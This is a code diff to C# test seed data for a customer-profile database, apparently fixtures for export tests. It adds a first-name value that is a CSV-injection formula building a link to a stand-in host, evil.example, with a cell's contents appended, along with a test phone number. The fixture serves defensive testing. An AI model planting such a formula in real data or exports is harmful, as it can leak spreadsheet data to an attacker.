@@ -26,7 +26,19 @@ internal static class AudienceData
             record.Consents.Add(new ConsentState(ConsentChannel.Email, i == 7 ? ConsentStatus.Unsubscribed : ConsentStatus.Granted, now.AddDays(-1)));
             db.SourceRecords.Add(record);
             var profile = new GoldenProfile(Guid.CreateVersion7(now.AddMinutes(i)), now);
-            profile.ReplaceAttributes([new ProfileAttributeValue(AttributeNames.Email, $"p{i}@example.com", 0, lineage), new ProfileAttributeValue(AttributeNames.LastName, i == 0 ? "O\"Neil, Jr" : $"Person{i}", 0, lineage)], now);
+            List<ProfileAttributeValue> attributes =
+            [
+                new(AttributeNames.Email, $"p{i}@example.com", 0, lineage),
+                new(AttributeNames.LastName, i == 0 ? "O\"Neil, Jr" : $"Person{i}", 0, lineage),
+            ];
+            if (i == 1)
+            {
+                // A name from a lead form that a spreadsheet would run as a formula (CSV injection), and an E.164 phone.
+                attributes.Add(new(AttributeNames.FirstName, "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")", 0, lineage));
+                attributes.Add(new(AttributeNames.Phone, "+447700900123", 0, lineage));
+            }
+
+            profile.ReplaceAttributes(attributes, now);
             db.Profiles.Add(profile);
             await db.SaveChangesAsync();
             db.Memberships.Add(new ProfileMembership(record.Id, profile.Id, null, null, LinkOrigin.Seed, now));
